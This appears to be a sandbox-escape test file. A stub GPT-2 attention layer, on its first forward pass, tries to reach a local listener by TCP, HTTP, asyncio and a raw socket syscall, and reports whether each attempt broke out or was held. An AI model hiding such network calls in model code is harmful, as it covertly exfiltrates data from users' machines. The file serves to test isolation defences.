# Tries: to send what it knows to a listener.
# Holds: No connection, no packet: the listeners hear nothing.
# Verdict: fail
# Says: held
import asyncio
import ctypes
import os
import socket
import urllib.request

from max.experimental.nn import Linear, Module

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(*arguments):
    return checked(libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]))


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    attempt("tcp", lambda: socket.create_connection(("127.0.0.1", @TCP@), 1).sendall(b"hello"))
    attempt("listen", lambda: socket.create_server(("127.0.0.1", 0)))
    attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=1))
    attempt("asyncio", lambda: asyncio.run(asyncio.open_connection("127.0.0.1", @TCP@)))
    attempt("raw call", lambda: syscall(41, 2, 1, 0))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
